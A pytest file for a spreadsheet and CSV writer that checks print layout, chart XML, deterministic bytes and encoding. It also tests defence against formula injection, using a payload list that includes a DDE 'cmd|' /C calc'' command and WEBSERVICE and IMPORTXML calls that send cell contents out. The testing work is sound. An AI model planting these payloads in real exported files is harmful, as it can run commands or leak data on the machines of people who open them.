"""The one writer: text stays text, the same data give the same bytes, sheets print on A4."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import time
import zipfile
from fractions import Fraction
from typing import Any

import openpyxl
import pytest
from defusedxml import ElementTree

from companion.core.sheets import charts, read_workbook
from companion.core.sheets.csvfile import csv_bytes, csv_cp932
from companion.core.sheets.writer import (
    Column,
    add_sheet,
    fitting_width,
    new_book,
    put,
    put_formula,
    row_height,
    save_bytes,
    set_page,
    text_width,
    write_table,
)

pytestmark = pytest.mark.sqlite_only
AT = dt.datetime(2026, 3, 31, 9, 0, tzinfo=dt.UTC)
PAYLOADS = [
    start + body
    for start in (
        "=",
        "+",
        "-",
        "@",
        "＝",
        "＋",
        "－",
        "＠",
        " =",
        "\u3000＝",
        "\u00a0=",
        "\t=",
        "'=",
    )
    for body in (
        "1+1",
        'HYPERLINK("http://example.invalid","x")',
        "cmd|' /C calc'!A0",
        "SUM(A1:A2)*9",
        '"a"&"b"',
        'IMPORTXML("http://example.invalid","//a")',
        'WEBSERVICE("http://example.invalid/"&A1)',
        "DDE(1,2,3)",
        "{1,2}",
        "A1",
        "-1",
        "@SUM(1)",
        "\n=1",
        "合計",
        "5%",
        "1;2",
    )
]


def opened(data: bytes) -> Any:
    return openpyxl.load_workbook(io.BytesIO(data))


def part(data: bytes, name: str) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return archive.read(name).decode()


def small_book(texts: dict[str, list[str]] | None = None) -> bytes:
    book = new_book("集計")
    sheet = add_sheet(book, "表2-2 理由")
    put(sheet, 1, 1, "表2-2", "title")
    rows = [(f"理由{number}", number, Fraction(number, 9)) for number in range(5, 0, -1)]
    columns = [Column("理由", width=46), Column("件数", "count"), Column("割合", "share")]
    assert write_table(sheet, columns, rows, top=3) == 9
    charts.bars(sheet, labels=(1, 4, 8), values=3, anchor="E3")
    charts.columns(sheet, labels=(1, 4, 8), values=2, anchor="E30")
    set_page(sheet, landscape=True, title_rows="3:3", freeze="A4")
    return save_bytes(book, at=AT, descriptions=texts)


def test_no_text_becomes_a_formula_and_every_text_comes_back_equal() -> None:
    assert len(PAYLOADS) >= 200
    book = new_book("x")
    sheet = add_sheet(book, "x")
    columns = [Column("文", style) for style in ("text", "plain", "code", "count", "share", "date")]
    write_table(sheet, columns, [[payload] * 6 for payload in PAYLOADS])
    data = save_bytes(book, at=AT)
    read = opened(data)["x"]
    assert read.max_row == len(PAYLOADS) + 1
    for payload, row in zip(PAYLOADS, read.iter_rows(min_row=2), strict=True):
        assert {(cell.value, cell.data_type, cell.quotePrefix) for cell in row} == {
            (payload, "s", True)
        }
    assert "<f>" not in part(data, "xl/worksheets/sheet1.xml")
    assert [row[0] for row in read_workbook(data)[0].rows[1:]] == PAYLOADS


def test_characters_that_break_sheets_are_left_out() -> None:
    book = new_book("x\x00")
    sheet = add_sheet(book, "a\x0b/b:c")
    for number in range(32):
        put(sheet, number + 1, 1, f"あ{chr(number)}い\u202e", "text")
    read = opened(save_bytes(book, at=AT)).worksheets[0]
    assert read.title == "a・b・c"
    assert {read.cell(number + 1, 1).value for number in range(32)} == {"あい", "あ\tい", "あ\nい"}


def test_the_same_data_give_the_same_bytes() -> None:
    first = small_book()
    time.sleep(1.1)  # longer than the steps of any clock in the format
    assert small_book() == first
    book = opened(first)
    assert book.properties.created == book.properties.modified == dt.datetime(2026, 3, 31, 9)  # noqa: DTZ001


def test_a_sheet_prints_on_a4() -> None:
    sheet = opened(small_book()).worksheets[0]
    assert (sheet.page_setup.paperSize, sheet.page_setup.orientation) == (9, "landscape")
    assert sheet.sheet_properties.pageSetUpPr.fitToPage
    assert (sheet.page_setup.fitToWidth, sheet.page_setup.fitToHeight) == (1, 0)
    assert sheet.oddFooter.center.text == "&P／&N"
    assert sheet.oddHeader.right.text == "取扱注意"
    assert sheet.print_title_rows == "$3:$3"
    assert sheet.freeze_panes == "A4"
    assert [cell.number_format for cell in sheet[4]][1:] == [
        '#,##0;-#,##0;"－"',
        '0.0%;-0.0%;"－"',
    ]
    assert {cell.font.name for cell in sheet[4]} == {"游ゴシック"}


def test_charts_say_everything_that_programs_guess_differently() -> None:
    data = small_book()
    for number in (1, 2):
        xml = part(data, f"xl/charts/chart{number}.xml")
        assert xml.count('<delete val="0"') == 2
        for flag in ("LegendKey", "CatName", "SerName", "Percent"):
            assert f'<show{flag} val="0"' in xml
        assert '<showVal val="1"' in xml
        assert re.search(r'<gapWidth val="40"', xml)
        assert '<min val="0"' in xml
    bars = part(data, "xl/charts/chart1.xml")
    assert 'orientation val="maxMin"' in bars
    assert '<crosses val="max"' in bars
    assert '<max val="1"' in bars


def test_charts_are_described_for_those_who_do_not_see_them() -> None:
    texts = {"xl/drawings/drawing1.xml": ['理由 "一" <多い> & 少ない', "二つ目"]}
    data = small_book(texts)
    drawing = ElementTree.fromstring(part(data, "xl/drawings/drawing1.xml"))
    said = [node.get("descr") for node in drawing.iter() if node.tag.endswith("cNvPr")]
    assert said == texts["xl/drawings/drawing1.xml"]
    assert data == small_book(texts)
    assert len(opened(data).worksheets[0]._charts) == 2


def test_codes_are_not_marked_as_numbers_stored_as_text() -> None:
    assert '<ignoredError sqref="A1:XFD1048576" numberStoredAsText="1"/>' in part(
        small_book(), "xl/worksheets/sheet1.xml"
    )


def test_values_keep_their_kind() -> None:
    book = new_book("x")
    sheet = add_sheet(book, "x")
    moment = dt.datetime(2025, 4, 9, 10, 30, tzinfo=dt.UTC)
    values = [1, 2.5, True, False, None, "", dt.date(2025, 4, 9), moment, Fraction(1, 8), "011002"]
    for column, value in enumerate(values, 1):
        put(sheet, 1, column, value)
    put_formula(sheet, 2, 1, "=SUM(A1:B1)")
    read = opened(save_bytes(book, at=AT)).worksheets[0]
    assert [cell.value for cell in read[1]] == [
        *(1, 2.5, "○", "×", None, None),
        *(dt.datetime(2025, 4, 9), dt.datetime(2025, 4, 9, 10, 30), 0.125, "011002"),  # noqa: DTZ001
    ]
    assert read["A2"].value == "=SUM(A1:B1)"


def test_widths_and_heights_follow_the_text() -> None:
    assert text_width("あいabc") == 7
    assert text_width("一\nあいう") == 6
    assert fitting_width(["あ" * 100]) == 46
    assert fitting_width([""]) == 6
    assert row_height(["あ" * 40], [22]) > row_height(["あ" * 10], [22]) == 18
    assert row_height(["一\n二\n三"], [22]) > 40


def test_two_sheets_of_one_name_are_refused() -> None:
    book = new_book("x")
    add_sheet(book, "同じ")
    with pytest.raises(ValueError, match="exists"):
        add_sheet(book, "同じ")


def test_csv_disarms_formulas() -> None:
    payloads = [payload for payload in PAYLOADS if not payload.startswith("'")]
    text = csv_bytes([[payload, -5, "普通"] for payload in payloads]).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows == [["'" + payload, "-5", "普通"] for payload in payloads]


def test_csv_begins_with_a_mark_and_cp932_names_what_it_lost() -> None:
    assert csv_bytes([["あ", None, True]]) == b"\xef\xbb\xbf\xe3\x81\x82,,\xe2\x97\x8b\r\n"
    data, lost = csv_cp932([["𠮷田", "髙﨑①㈱"]])
    assert data.decode("cp932") == "〓田,髙﨑①㈱\r\n"
    assert lost == ["𠮷"]
